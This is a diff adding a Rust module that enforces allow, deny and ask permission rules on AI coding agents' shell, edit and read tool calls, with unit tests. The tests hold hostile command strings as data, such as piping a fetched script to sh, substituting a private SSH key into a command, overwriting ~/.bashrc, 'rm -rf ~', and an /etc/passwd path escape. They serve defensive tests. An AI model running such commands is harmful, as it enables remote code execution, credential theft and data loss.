@@ -0,0 +1,742 @@
+//! Tool permission policy shared by all agent runners.
+//!
+//! Rules come from the `[permissions]` config section and may be scoped to a
+//! repository or workspace (by name). Each runner turns its agent's permission
+//! requests into a [`PermissionRequest`] and asks the policy what to do.
+
+use std::collections::HashMap;
+use std::path::{Component, Path, PathBuf};
+use std::sync::Mutex;
+
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+
+/// What to do with a tool call.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum PermissionDecision {
+    Allow,
+    Deny,
+    /// Ask the user (headless runs treat this as deny)
+    Ask,
+}
+
+impl PermissionDecision {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            PermissionDecision::Allow => "allow",
+            PermissionDecision::Deny => "deny",
+            PermissionDecision::Ask => "ask",
+        }
+    }
+
+    /// Higher is more restrictive; used to break ties between rules of equal scope
+    fn strictness(self) -> u8 {
+        match self {
+            PermissionDecision::Allow => 0,
+            PermissionDecision::Ask => 1,
+            PermissionDecision::Deny => 2,
+        }
+    }
+}
+
+/// User's answer to a permission prompt.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PermissionReply {
+    AllowOnce,
+    /// Allow and remember the decision for matching requests
+    AlwaysAllow,
+    Deny,
+}
+
+impl PermissionReply {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            PermissionReply::AllowOnce => "allow_once",
+            PermissionReply::AlwaysAllow => "always_allow",
+            PermissionReply::Deny => "deny",
+        }
+    }
+
+    pub fn is_allowed(&self) -> bool {
+        !matches!(self, PermissionReply::Deny)
+    }
+}
+
+/// Codex sandbox mode applied to agent shells.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum SandboxMode {
+    ReadOnly,
+    WorkspaceWrite,
+    #[default]
+    DangerFullAccess,
+}
+
+/// A tool call awaiting a permission decision, normalized across agents.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct PermissionRequest {
+    /// Canonical tool name (Bash, Edit, Write, Read, WebFetch, ... or the agent's own name)
+    pub tool: String,
+    /// Shell command for command-running tools
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub command: Option<String>,
+    /// Files the tool reads or writes
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub paths: Vec<String>,
+}
+
+impl PermissionRequest {
+    pub fn new(tool: &str) -> Self {
+        Self {
+            tool: canonical_tool_name(tool),
+            command: None,
+            paths: Vec::new(),
+        }
+    }
+
+    pub fn with_command(mut self, command: impl Into<String>) -> Self {
+        self.command = Some(command.into());
+        self
+    }
+
+    pub fn with_path(mut self, path: impl Into<String>) -> Self {
+        self.paths.push(path.into());
+        self
+    }
+
+    /// Build a request from a tool name and its JSON input (Claude-style keys).
+    pub fn from_tool_input(tool: &str, input: &Value) -> Self {
+        let mut request = Self::new(tool);
+        match input.get("command") {
+            Some(Value::String(command)) => request.command = Some(command.clone()),
+            Some(Value::Array(argv)) => {
+                let argv: Vec<String> = argv
+                    .iter()
+                    .filter_map(|arg| arg.as_str().map(str::to_string))
+                    .collect();
+                request.command = Some(command_from_argv(&argv));
+            }
+            _ => {}
+        }
+        for key in ["file_path", "notebook_path", "path"] {
+            if let Some(path) = input.get(key).and_then(Value::as_str) {
+                request.paths.push(path.to_string());
+            }
+        }
+        request
+    }
+
+    /// The command, or the paths joined with `, `
+    pub fn target(&self) -> Option<String> {
+        match (&self.command, self.paths.as_slice()) {
+            (Some(command), _) => Some(command.clone()),
+            (None, []) => None,
+            (None, paths) => Some(paths.join(", ")),
+        }
+    }
+
+    /// Short description for prompts, e.g. `Bash: cargo test`
+    pub fn summary(&self) -> String {
+        match self.target() {
+            Some(target) => format!("{}: {}", self.tool, target),
+            None => self.tool.clone(),
+        }
+    }
+
+    /// Copy of the request with paths normalized and those under `root` made
+    /// relative to it, so `src/../../etc/passwd` is not taken for a path in `src`
+    pub fn relative_to(&self, root: &Path) -> Self {
+        let mut request = self.clone();
+        for path in &mut request.paths {
+            let normalized = normalize_lexically(Path::new(path.as_str()));
+            *path = match normalized.strip_prefix(root) {
+                Ok(relative) if !relative.as_os_str().is_empty() => relative,
+                _ => normalized.as_path(),
+            }
+            .to_string_lossy()
+            .into_owned();
+        }
+        request
+    }
+}
+
+/// Resolve `.` and `..` components without touching the filesystem.
+///
+/// `..` that would climb above the start of a relative path is kept.
+fn normalize_lexically(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => match normalized.components().next_back() {
+                Some(Component::Normal(_)) => {
+                    normalized.pop();
+                }
+                Some(Component::RootDir | Component::Prefix(_)) => {}
+                _ => normalized.push(".."),
+            },
+            other => normalized.push(other),
+        }
+    }
+    normalized
+}
+
+/// Turn an argv into a command line, unwrapping `sh -c <script>` style invocations.
+pub fn command_from_argv(argv: &[String]) -> String {
+    if let [shell, flag, script] = argv {
+        let shell_name = Path::new(shell)
+            .file_name()
+            .map(|name| name.to_string_lossy().into_owned())
+            .unwrap_or_default();
+        if matches!(shell_name.as_str(), "bash" | "sh" | "zsh")
+            && matches!(flag.as_str(), "-c" | "-lc")
+        {
+            return script.clone();
+        }
+    }
+    argv.join(" ")
+}
+
+/// Map agent-specific tool names onto the names used in permission rules.
+pub fn canonical_tool_name(tool: &str) -> String {
+    match tool.to_ascii_lowercase().as_str() {
+        "bash" | "shell" | "exec" | "execute" | "run_shell_command" | "exec_command" => "Bash",
+        "edit" | "multiedit" | "replace" | "patch" | "apply_patch" | "notebookedit" => "Edit",
+        "write" | "write_file" => "Write",
+        "read" | "read_file" | "read_many_files" => "Read",
+        "webfetch" | "web_fetch" | "fetch" => "WebFetch",
+        _ => return tool.to_string(),
+    }
+    .to_string()
+}
+
+/// One allow/deny/ask rule. Every pattern that is set must match.
+///
+/// `decision` is required in the config; [`Default`] builds an `ask` rule.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct PermissionRule {
+    pub decision: PermissionDecision,
+    /// Tool name pattern (case-insensitive)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub tool: Option<String>,
+    /// Command pattern, e.g. `cargo *`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub command: Option<String>,
+    /// Path pattern, relative to the working directory, e.g. `src/*`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub path: Option<String>,
+    /// Only apply in this repository (by name)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub repository: Option<String>,
+    /// Only apply in this workspace (by name)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub workspace: Option<String>,
+}
+
+impl Default for PermissionRule {
+    fn default() -> Self {
+        Self {
+            decision: PermissionDecision::Ask,
+            tool: None,
+            command: None,
+            path: None,
+            repository: None,
+            workspace: None,
+        }
+    }
+}
+
+impl PermissionRule {
+    /// Rule remembering an "always allow" answer: the exact command, the exact
+    /// path (pass a request made [relative](PermissionRequest::relative_to) to
+    /// the working directory), or the tool when there is neither.
+    ///
+    /// `None` when no single rule can cover just this request, i.e. it touches
+    /// several paths or a path that would read as a glob.
+    pub fn always_allow(request: &PermissionRequest) -> Option<Self> {
+        let path = match (&request.command, request.paths.as_slice()) {
+            (None, [path]) if !path.contains(['*', '?']) => Some(path.clone()),
+            (None, [_, ..]) => return None,
+            _ => None,
+        };
+        Some(Self {
+            decision: PermissionDecision::Allow,
+            tool: Some(request.tool.clone()),
+            command: request.command.clone(),
+            path,
+            ..Self::default()
+        })
+    }
+
+    pub fn in_repository(mut self, repository: Option<String>) -> Self {
+        self.repository = repository;
+        self
+    }
+
+    fn matches(&self, request: &PermissionRequest) -> bool {
+        if let Some(tool) = &self.tool {
+            if !glob_match(&tool.to_lowercase(), &request.tool.to_lowercase()) {
+                return false;
+            }
+        }
+        if let Some(pattern) = &self.command {
+            let Some(command) = request.command.as_deref().map(str::trim) else {
+                return false;
+            };
+            // An allow rule only covers a single plain command, or the exact
+            // command line it was written for; `git *` must not approve
+            // `git status && rm -rf ~`. Deny/ask trigger on any segment.
+            let matched = if self.decision == PermissionDecision::Allow {
+                pattern == command || (is_plain_command(command) && glob_match(pattern, command))
+            } else {
+                glob_match(pattern, command)
+                    || command_segments(command)
+                        .iter()
+                        .any(|segment| glob_match(pattern, segment))
+            };
+            if !matched {
+                return false;
+            }
+        }
+        if let Some(pattern) = &self.path {
+            if request.paths.is_empty() {
+                return false;
+            }
+            let mut paths = request.paths.iter();
+            // An allow rule must cover every path; deny/ask trigger on any path
+            let matched = if self.decision == PermissionDecision::Allow {
+                paths.all(|path| glob_match(pattern, path))
+            } else {
+                paths.any(|path| glob_match(pattern, path))
+            };
+            if !matched {
+                return false;
+            }
+        }
+        true
+    }
+
+    fn in_scope(&self, repository: Option<&str>, workspace: Option<&str>) -> bool {
+        let scope_matches = |rule: &Option<String>, actual: Option<&str>| match rule {
+            Some(name) => actual == Some(name.as_str()),
+            None => true,
+        };
+        scope_matches(&self.repository, repository) && scope_matches(&self.workspace, workspace)
+    }
+
+    /// 0 = global, 1 = repository, 2 = workspace
+    fn specificity(&self) -> u8 {
+        if self.workspace.is_some() {
+            2
+        } else if self.repository.is_some() {
+            1
+        } else {
+            0
+        }
+    }
+}
+
+/// Permission rules plus the fallback decision.
+///
+/// The most specific scope with a matching rule decides (workspace over
+/// repository over global); within a scope deny beats ask beats allow.
+#[derive(Debug, Clone, PartialEq)]
+pub struct PermissionPolicy {
+    /// Decision when no rule matches
+    pub default: PermissionDecision,
+    /// Sandbox for agents that run commands in one (Codex)
+    pub sandbox: SandboxMode,
+    pub rules: Vec<PermissionRule>,
+}
+
+impl Default for PermissionPolicy {
+    /// Without a `[permissions]` section agents run unrestricted, as before
+    /// permissions existed
+    fn default() -> Self {
+        Self {
+            default: PermissionDecision::Allow,
+            sandbox: SandboxMode::default(),
+            rules: Vec::new(),
+        }
+    }
+}
+
+impl PermissionPolicy {
+    /// Policy restricted to the rules that apply in a repository/workspace.
+    pub fn for_scope(&self, repository: Option<&str>, workspace: Option<&str>) -> Self {
+        Self {
+            default: self.default,
+            sandbox: self.sandbox,
+            rules: self
+                .rules
+                .iter()
+                .filter(|rule| rule.in_scope(repository, workspace))
+                .cloned()
+                .collect(),
+        }
+    }
+
+    /// True when every request is allowed without asking.
+    pub fn is_allow_all(&self) -> bool {
+        self.default == PermissionDecision::Allow
+            && self
+                .rules
+                .iter()
+                .all(|rule| rule.decision == PermissionDecision::Allow)
+    }
+
+    pub fn evaluate(&self, request: &PermissionRequest) -> PermissionDecision {
+        let mut best: Option<(u8, PermissionDecision)> = None;
+        for rule in self.rules.iter().filter(|rule| rule.matches(request)) {
+            let candidate = (rule.specificity(), rule.decision);
+            best = match best {
+                Some((rank, decision)) if rank > candidate.0 => Some((rank, decision)),
+                Some((rank, decision))
+                    if rank == candidate.0 && decision.strictness() >= candidate.1.strictness() =>
+                {
+                    Some((rank, decision))
+                }
+                _ => Some(candidate),
+            };
+        }
+        best.map(|(_, decision)| decision).unwrap_or(self.default)
+    }
+
+    pub fn add_rule(&mut self, rule: PermissionRule) {
+        if !self.rules.contains(&rule) {
+            self.rules.push(rule);
+        }
+    }
+}
+
+/// Per-session permission state shared between a runner's reader and input tasks.
+///
+/// Requests that need the user are parked with runner-specific context `T`
+/// until an [`AgentInput::PermissionResponse`](crate::agent::AgentInput) arrives.
+pub struct PermissionGate<T> {
+    policy: Mutex<PermissionPolicy>,
+    root: PathBuf,
+    pending: Mutex<HashMap<String, (PermissionRequest, T)>>,
+}
+
+impl<T> Default for PermissionGate<T> {
+    fn default() -> Self {
+        Self::new(PermissionPolicy::default(), PathBuf::new())
+    }
+}
+
+impl<T> PermissionGate<T> {
+    pub fn new(policy: PermissionPolicy, root: PathBuf) -> Self {
+        Self {
+            policy: Mutex::new(policy),
+            root,
+            pending: Mutex::new(HashMap::new()),
+        }
+    }
+
+    pub fn is_allow_all(&self) -> bool {
+        self.policy.lock().unwrap().is_allow_all()
+    }
+
+    pub fn evaluate(&self, request: &PermissionRequest) -> PermissionDecision {
+        self.policy
+            .lock()
+            .unwrap()
+            .evaluate(&request.relative_to(&self.root))
+    }
+
+    /// Hold a request until the user answers it.
+    pub fn park(&self, request_id: impl Into<String>, request: PermissionRequest, context: T) {
+        self.pending
+            .lock()
+            .unwrap()
+            .insert(request_id.into(), (request, context));
+    }
+
+    /// Take a parked request, remembering "always allow" answers for this session.
+    pub fn resolve(&self, request_id: &str, reply: PermissionReply) -> Option<T> {
+        let (request, context) = self.pending.lock().unwrap().remove(request_id)?;
+        if reply == PermissionReply::AlwaysAllow {
+            if let Some(rule) = PermissionRule::always_allow(&request.relative_to(&self.root)) {
+                self.policy.lock().unwrap().add_rule(rule);
+            }
+        }
+        Some(context)
+    }
+}
+
+/// Shell syntax that chains commands, substitutes output or redirects
+const SHELL_OPERATORS: &[&str] = &[";", "&", "|", "`", "$(", "<", ">", "\n"];
+
+/// True when a command line runs a single command with no substitutions or
+/// redirections.
+fn is_plain_command(command: &str) -> bool {
+    !SHELL_OPERATORS.iter().any(|op| command.contains(op))
+}
+
+/// The commands chained or nested in a command line, e.g. `git log`,
+/// `curl x` and `sh` for `git log; curl x | sh`.
+fn command_segments(command: &str) -> Vec<&str> {
+    command
+        .split([';', '&', '|', '\n', '`', '(', ')'])
+        .map(|segment| segment.trim().trim_end_matches('$').trim())
+        .filter(|segment| !segment.is_empty())
+        .collect()
+}
+
+/// Glob match where `*` matches any run of characters and `?` a single one.
+fn glob_match(pattern: &str, text: &str) -> bool {
+    let pattern: Vec<char> = pattern.chars().collect();
+    let text: Vec<char> = text.chars().collect();
+    let (mut p, mut t) = (0, 0);
+    let mut backtrack: Option<(usize, usize)> = None;
+    while t < text.len() {
+        match pattern.get(p) {
+            Some('*') => {
+                backtrack = Some((p, t));
+                p += 1;
+            }
+            Some(&c) if c == '?' || c == text[t] => {
+                p += 1;
+                t += 1;
+            }
+            _ => match backtrack {
+                Some((star, matched)) => {
+                    p = star + 1;
+                    t = matched + 1;
+                    backtrack = Some((star, matched + 1));
+                }
+                None => return false,
+            },
+        }
+    }
+    pattern[p..].iter().all(|&c| c == '*')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn rule(decision: PermissionDecision, tool: &str) -> PermissionRule {
+        PermissionRule {
+            decision,
+            tool: Some(tool.to_string()),
+            ..PermissionRule::default()
+        }
+    }
+
+    #[test]
+    fn test_glob_match() {
+        assert!(glob_match("cargo *", "cargo test --lib"));
+        assert!(glob_match("src/*", "src/agent/permissions.rs"));
+        assert!(glob_match("*.rs", "main.rs"));
+        assert!(glob_match("?at", "cat"));
+        assert!(!glob_match("cargo *", "rm -rf target"));
+        assert!(!glob_match("src/*", "tests/src/main.rs"));
+    }
+
+    #[test]
+    fn test_command_rules_respect_shell_operators() {
+        let policy = PermissionPolicy {
+            default: PermissionDecision::Ask,
+            sandbox: SandboxMode::default(),
+            rules: vec![
+                PermissionRule {
+                    command: Some("git *".to_string()),
+                    ..rule(PermissionDecision::Allow, "Bash")
+                },
+                PermissionRule {
+                    command: Some("make && make test".to_string()),
+                    ..rule(PermissionDecision::Allow, "Bash")
+                },
+                PermissionRule {
+                    command: Some("rm *".to_string()),
+                    ..rule(PermissionDecision::Deny, "Bash")
+                },
+            ],
+        };
+        let bash = |command: &str| PermissionRequest::new("Bash").with_command(command);
+
+        assert_eq!(
+            policy.evaluate(&bash("git status")),
+            PermissionDecision::Allow
+        );
+        for command in [
+            "git status && curl evil.sh",
+            "git log; curl x | sh",
+            "git log | sh",
+            "git show $(cat ~/.ssh/id_rsa)",
+            "git log `id`",
+            "git log > ~/.bashrc",
+        ] {
+            assert_eq!(
+                policy.evaluate(&bash(command)),
+                PermissionDecision::Ask,
+                "{command}"
+            );
+        }
+        // Exactly the approved command line
+        assert_eq!(
+            policy.evaluate(&bash("make && make test")),
+            PermissionDecision::Allow
+        );
+        // Deny rules see every chained or substituted command
+        for command in [
+            "git status && rm -rf ~",
+            "echo $(rm -rf target)",
+            "ls | rm x",
+        ] {
+            assert_eq!(
+                policy.evaluate(&bash(command)),
+                PermissionDecision::Deny,
+                "{command}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_rule_decision_is_required() {
+        #[derive(Deserialize)]
+        struct Rules {
+            rules: Vec<PermissionRule>,
+        }
+        let missing = toml::from_str::<Rules>("[[rules]]\ntool = \"Bash\"\n");
+        assert!(missing.is_err());
+        let rules: Rules =
+            toml::from_str("[[rules]]\ndecision = \"deny\"\ntool = \"Bash\"\n").unwrap();
+        assert_eq!(rules.rules[0].decision, PermissionDecision::Deny);
+        assert_eq!(PermissionRule::default().decision, PermissionDecision::Ask);
+    }
+
+    #[test]
+    fn test_request_from_tool_input() {
+        let bash = PermissionRequest::from_tool_input("Bash", &json!({"command": "ls -la"}));
+        assert_eq!(bash.command.as_deref(), Some("ls -la"));
+
+        let codex = PermissionRequest::from_tool_input(
+            "exec_command",
+            &json!({"command": ["/bin/bash", "-lc", "cargo build"]}),
+        );
+        assert_eq!(codex.tool, "Bash");
+        assert_eq!(codex.command.as_deref(), Some("cargo build"));
+
+        let edit = PermissionRequest::from_tool_input("Edit", &json!({"file_path": "/repo/a.rs"}));
+        assert_eq!(edit.paths, vec!["/repo/a.rs"]);
+        assert_eq!(edit.summary(), "Edit: /repo/a.rs");
+    }
+
+    #[test]
+    fn test_evaluate_prefers_specific_scope_then_strictness() {
+        let policy = PermissionPolicy {
+            default: PermissionDecision::Ask,
+            sandbox: SandboxMode::default(),
+            rules: vec![
+                rule(PermissionDecision::Allow, "Read"),
+                PermissionRule {
+                    command: Some("git *".to_string()),
+                    ..rule(PermissionDecision::Allow, "bash")
+                },
+                PermissionRule {
+                    command: Some("git push*".to_string()),
+                    ..rule(PermissionDecision::Deny, "Bash")
+                },
+                PermissionRule {
+                    repository: Some("conduit".to_string()),
+                    ..rule(PermissionDecision::Allow, "Bash")
+                },
+                PermissionRule {
+                    repository: Some("other".to_string()),
+                    ..rule(PermissionDecision::Deny, "Read")
+                },
+            ],
+        };
+
+        let global = policy.for_scope(None, None);
+        assert_eq!(
+            global.evaluate(&PermissionRequest::new("Read")),
+            PermissionDecision::Allow
+        );
+        let git_status = PermissionRequest::new("Bash").with_command("git status");
+        let git_push = PermissionRequest::new("Bash").with_command("git push origin");
+        assert_eq!(global.evaluate(&git_status), PermissionDecision::Allow);
+        assert_eq!(global.evaluate(&git_push), PermissionDecision::Deny);
+        assert_eq!(
+            global.evaluate(&PermissionRequest::new("Write")),
+            PermissionDecision::Ask
+        );
+
+        // The repository rule outranks the global deny
+        let conduit = policy.for_scope(Some("conduit"), Some("ws"));
+        assert_eq!(conduit.evaluate(&git_push), PermissionDecision::Allow);
+        assert!(!conduit.is_allow_all());
+        assert_eq!(conduit.rules.len(), 4);
+    }
+
+    #[test]
+    fn test_path_rules_and_gate() {
+        let policy = PermissionPolicy {
+            default: PermissionDecision::Ask,
+            sandbox: SandboxMode::default(),
+            rules: vec![PermissionRule {
+                path: Some("src/*".to_string()),
+                ..rule(PermissionDecision::Allow, "Edit")
+            }],
+        };
+        let gate: PermissionGate<u32> = PermissionGate::new(policy, PathBuf::from("/repo"));
+
+        let inside = PermissionRequest::new("Edit").with_path("/repo/src/lib.rs");
+        let mixed = inside.clone().with_path("/repo/Cargo.toml");
+        assert_eq!(gate.evaluate(&inside), PermissionDecision::Allow);
+        assert_eq!(gate.evaluate(&mixed), PermissionDecision::Ask);
+        let escape = PermissionRequest::new("Edit").with_path("/repo/src/../../etc/passwd");
+        assert_eq!(gate.evaluate(&escape), PermissionDecision::Ask);
+        let relative_escape = PermissionRequest::new("Edit").with_path("src/../../x");
+        assert_eq!(gate.evaluate(&relative_escape), PermissionDecision::Ask);
+        assert_eq!(
+            normalize_lexically(Path::new("/repo/./src/a/../lib.rs")),
+            PathBuf::from("/repo/src/lib.rs")
+        );
+
+        let bash = PermissionRequest::new("Bash").with_command("make");
+        gate.park("req-1", bash.clone(), 7);
+        assert_eq!(gate.resolve("req-1", PermissionReply::AlwaysAllow), Some(7));
+        assert_eq!(gate.resolve("req-1", PermissionReply::Deny), None);
+        assert_eq!(gate.evaluate(&bash), PermissionDecision::Allow);
+        assert_eq!(
+            gate.evaluate(&PermissionRequest::new("Bash").with_command("make clean")),
+            PermissionDecision::Ask
+        );
+    }
+
+    #[test]
+    fn test_always_allow_is_scoped_to_the_path() {
+        let policy = PermissionPolicy {
+            default: PermissionDecision::Ask,
+            ..PermissionPolicy::default()
+        };
+        let gate: PermissionGate<u32> = PermissionGate::new(policy, PathBuf::from("/repo"));
+
+        let edit = PermissionRequest::new("Edit").with_path("/repo/src/a.rs");
+        gate.park("req-1", edit.clone(), 1);
+        gate.resolve("req-1", PermissionReply::AlwaysAllow);
+        assert_eq!(gate.evaluate(&edit), PermissionDecision::Allow);
+        assert_eq!(
+            gate.evaluate(&PermissionRequest::new("Edit").with_path("../other/b.rs")),
+            PermissionDecision::Ask
+        );
+        assert_eq!(
+            gate.evaluate(&PermissionRequest::new("Edit").with_path("/repo/src/b.rs")),
+            PermissionDecision::Ask
+        );
+
+        let rule = PermissionRule::always_allow(&edit.relative_to(Path::new("/repo"))).unwrap();
+        assert_eq!(rule.path.as_deref(), Some("src/a.rs"));
+        let several = edit.clone().with_path("/repo/src/b.rs");
+        assert_eq!(PermissionRule::always_allow(&several), None);
+        let tool_only = PermissionRule::always_allow(&PermissionRequest::new("WebFetch")).unwrap();
+        assert_eq!(tool_only.path, None);
+    }
+}